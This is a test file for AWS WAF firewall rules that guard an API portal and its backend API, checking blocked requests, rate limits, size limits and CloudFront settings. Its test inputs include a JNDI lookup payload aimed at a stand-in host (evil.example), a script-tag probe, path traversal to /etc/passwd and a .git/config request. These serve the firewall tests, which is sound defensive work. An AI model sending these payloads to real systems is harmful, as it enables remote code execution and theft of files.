import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { PROBLEMS } from '@portico/contract';
import { resolve } from '@portico/local-cloud/intrinsics';
import { createWebAcl } from '@portico/local-cloud/web-acl';
import { describe, expect, it } from 'vitest';
import { synthesized } from './synthesized.ts';

const { all } = synthesized();
const LIMITS = { RequestsPerAddress: '20', PassedOnPerAddress: '40', SignInRequestsPerAddress: '10' };
const GIVEN = {
  ...LIMITS,
  PortalUrl: 'https://developer.example.com',
  RefusedCountries: 'AQ,BV',
  RefusesCountries: 'yes',
  ...{ EdgeProofVersion: '', EdgeProofOther: '' },
};
const OTHERS = { ...GIVEN, RequestsPerAddress: '1000', PassedOnPerAddress: '1000', SignInRequestsPerAddress: '1000' };

/** As CloudFormation fills a template of these parameters. */
const filled = (value: unknown, given: Readonly<Record<string, string>>): unknown =>
  resolve(value, {
    region: 'us-east-1',
    ref: (name) => given[name] ?? name,
    attribute: (id, name) => `${id}.${name}`,
    importValue: (name) => name,
    stackOutput: (stack, name) => `${stack}.${name}`,
    condition: (name) =>
      name === 'RefusesCountries' ? given.RefusedCountries !== '' : (given.EdgeProofOther ?? '') !== '',
    mapping: () => undefined,
  });

const propertiesOf = (name: string) =>
  all('AWS::WAFv2::WebACL').find(({ id }) => id.startsWith(name))?.properties as Readonly<Record<string, unknown>>;
const firewallOf = (name: string, given: Readonly<Record<string, string>> = OTHERS) =>
  createWebAcl(filled(propertiesOf(name), given) as Readonly<Record<string, unknown>>);
/** What the API's firewall knows the portal by, as it stands in the template. */
const PROOF = /\{\{resolve:secretsmanager:.*?\}\}/.exec(
  JSON.stringify(filled(propertiesOf('ApiFirewall'), OTHERS)),
)?.[0];

type Asked = { readonly path?: string; readonly query?: string; readonly body?: string; readonly method?: string };
type Headers = Readonly<Record<string, string>>;
const request = (
  { path = '/', query, body = '', method = body === '' ? 'GET' : 'POST' }: Asked,
  headers: Headers = {},
) => ({
  ...{ method, path, rawQuery: query, address: '203.0.113.7', body: Buffer.from(body) },
  headers: Object.entries({ 'user-agent': 'test', ...headers }),
});

const DOCUMENT = readFileSync(join(import.meta.dirname, '../../examples/museum-api/openapi.yaml'), 'utf8');
const SENTENCES = [
  'openapi: 3.1.0\nservers: [{ url: http://203.0.113.9/v1 }]\npaths: { /a: { $ref: ../../paths/a.yaml } }',
  'It asks http://169.254.169.254/latest/meta-data for its role.',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what is sent
  'A line like ${jndi:ldap://evil.example/a} is logged, and <script>alert(1)</script> is shown.',
];

describe('what is for the API comes through its firewall', () => {
  const acl = firewallOf('ApiFirewall');
  it.each(SENTENCES.map((body) => [body]))('a document that says %j', (body) => {
    for (const path of ['/imports', '/previews', '/apis/museum/guides/first-call', '/proxy/museum/notes'])
      expect(acl.check(request({ path, body })), path).toBeUndefined();
  });

  it.each<[string, Asked, Headers?]>([
    ['a whole document', { path: '/imports', body: JSON.stringify({ content: DOCUMENT.repeat(20) }) }],
    ['a search for what looks like an attack', { path: '/search', query: 'q=%3Cscript%3E..%2F..%2Fnginx.conf' }],
    ['a page by a long cursor', { path: '/public/apis', query: `cursor=${'a'.repeat(3000)}` }],
    ['a call of a program that says nothing of itself', { path: '/proxy/museum/museum-hours' }, { 'user-agent': '' }],
    ['a call with whatever its backend takes', { path: '/proxy/files/..%2fetc/WEB-INF/a.conf', method: 'PROPFIND' }],
    ['an address in a query', { path: '/backends', query: 'url=http://203.0.113.9/' }],
  ])('%s', (_, asked, headers) => {
    expect(acl.check(request(asked, headers))).toBeUndefined();
  });
});

it('what is for the portal comes through its firewall', () => {
  const acl = firewallOf('PortalFirewall');
  for (const body of SENTENCES) expect(acl.check(request({ path: '/api/portico/imports', body }))).toBeUndefined();
  const found = request({
    path: '/search',
    query: `q=${encodeURIComponent('<script> ../ nginx.conf http://203.0.113.9')}`,
  });
  expect(acl.check(found)).toBeUndefined();
});

const ATTACKS: readonly [string, Asked, Headers?][] = [
  ['out of the root', { path: '/apis/..%2f..%2fetc/passwd' }],
  ['for a repository', { path: '/.git/config' }],
  ['by a scanner', { path: '/apis' }, { 'user-agent': 'sqlmap/1.8' }],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what is sent
  ['for a logger', { path: '/apis' }, { 'x-api-version': '${jndi:ldap://evil.example/a}' }],
  ['with a path of two kilobytes', { path: `/${'a'.repeat(2000)}` }],
  ['from a country that is refused', { path: '/apis' }, { 'cloudfront-viewer-country': 'AQ' }],
];

describe.each(['ApiFirewall', 'PortalFirewall'])('%s', (name) => {
  it.each(ATTACKS)('refuses what comes %s, with a problem that the portal may read', (_, asked, headers) => {
    const refusal = firewallOf(name).check(request(asked, headers));
    expect(refusal?.status).toBe(403);
    expect(JSON.parse(String(refusal?.body))).toMatchObject({
      status: 403,
      code: 'forbidden',
      title: PROBLEMS.forbidden.title,
    });
    expect(Object.fromEntries(refusal?.headers ?? [])).toMatchObject({
      'Content-Type': 'application/json',
      'Access-Control-Allow-Origin': 'https://developer.example.com',
      'Cache-Control': 'no-store',
    });
  });

  it('has no rule on countries where none is named', () => {
    const acl = firewallOf(name, { ...OTHERS, RefusedCountries: '' });
    expect(acl.check(request({}, { 'cloudfront-viewer-country': 'AQ' }))).toBeUndefined();
  });

  it('says of each rule of AWS what it does here', () => {
    const { Rules } = propertiesOf(name) as { readonly Rules: readonly Readonly<Record<string, unknown>>[] };
    const groups = JSON.stringify(Rules).match(/"RuleActionOverrides":\[/g) ?? [];
    expect(groups).toHaveLength(4);
    // 1,500 units are in the price; https://docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-baseline.html
    expect(25 + 50 + 200 + 700 + (Rules.length - groups.length) * 40).toBeLessThan(1500);
  });
});

describe('a rate', () => {
  const until429 = (acl: ReturnType<typeof firewallOf>, asked: Asked, headers?: Headers): number => {
    for (let sent = 1; sent <= 100; sent += 1) {
      const refusal = acl.check(request(asked, headers));
      if (refusal?.status === 429) return sent;
    }
    return Number.POSITIVE_INFINITY;
  };

  it.each([
    ['ApiFirewall', '/apis', 21],
    ['ApiFirewall', '/sign-ins/ways', 11],
    ['ApiFirewall', '/sessions', 11],
    ['ApiFirewall', '/proxy/museum/tickets', 41],
    ['PortalFirewall', '/apis', 21],
    ['PortalFirewall', '/auth/ways', 11],
    ['PortalFirewall', '/api/portico/apis', 41],
  ])('of one address at %s%s ends with request %d', (name, path, sent) => {
    expect(until429(firewallOf(name, GIVEN), { path })).toBe(sent);
  });

  it('says nothing of the portal’s own server, which asks for everybody', () => {
    const proof = { 'x-portico-portal': String(PROOF) };
    expect(until429(firewallOf('ApiFirewall', GIVEN), { path: '/sign-ins/ways' }, proof)).toBe(
      Number.POSITIVE_INFINITY,
    );
    expect(until429(firewallOf('ApiFirewall', GIVEN), { path: '/apis' }, { 'x-portico-portal': 'a guess' })).toBe(21);
  });

  it('takes no body that no step of a sign-in has', () => {
    const acl = firewallOf('ApiFirewall');
    expect(acl.check(request({ path: '/sign-ins', body: 'a'.repeat(16_100) }))?.status).toBe(413);
    expect(acl.check(request({ path: '/sign-ins', body: 'a'.repeat(20_000) }))?.status).toBe(413);
    expect(acl.check(request({ path: '/sign-ins', body: 'a'.repeat(15_000) }))).toBeUndefined();
  });
});

describe('the hosts', () => {
  const configs = all('AWS::CloudFront::Distribution').map(({ properties }) => JSON.stringify(properties));

  it('keep no failure', () => {
    for (const config of configs)
      for (const status of [400, 403, 404, 405, 414, 416, 500, 501, 502, 503, 504])
        expect(config).toContain(`{"ErrorCachingMinTTL":0,"ErrorCode":${status}}`);
  });

  it('lead people to https, and refuse programs that come without', () => {
    const [portal = '', api = ''] = ['portal', 'api'].map((name) =>
      configs.find((one) => one.includes(`"Prefix":"${name}/"`)),
    );
    expect(portal).toContain('redirect-to-https');
    expect(portal).not.toContain('https-only"}');
    expect(api).not.toContain('redirect-to-https');
  });

  it('are protected by Shield Advanced where the account has it', () => {
    expect(all('AWS::Shield::Protection')).toHaveLength(2);
  });
});

describe('while the edge’s secret is replaced', () => {
  const [one, other] = ['1'.repeat(32), '2'.repeat(32)];
  const at = (version: string) => PROOF?.replace(/:::\}\}$/, `:::${version}}}`) ?? '';
  const edge = (name: string, given: Readonly<Record<string, string>>) =>
    createWebAcl(filled(propertiesOf(name), given) as Readonly<Record<string, unknown>>);

  it('the API takes it of either value, and otherwise of the one alone', () => {
    const refused = (given: object, value: string) =>
      edge('Firewall', { ...OTHERS, ...given }).check(request({ path: '/apps' }, { 'x-portico-edge': value })) !==
      undefined;
    const both = { EdgeProofVersion: one, EdgeProofOther: other };
    expect([one, other, ''].map((version) => refused(both, at(version)))).toEqual([false, false, true]);
    expect([one, other, ''].map((version) => refused({}, at(version)))).toEqual([true, true, false]);
  });

  it('the portal is counted with nobody at the edge, whichever it sends', () => {
    const given = { ...OTHERS, RequestsPerAddress: '10', EdgeProofVersion: one, EdgeProofOther: other };
    for (const version of [one, other]) {
      const acl = edge('ApiFirewall', given);
      const asked = () => acl.check(request({ path: '/apps' }, { 'x-portico-portal': at(version) }));
      expect(Array.from({ length: 30 }, asked).every((answer) => answer === undefined)).toBe(true);
    }
  });
});
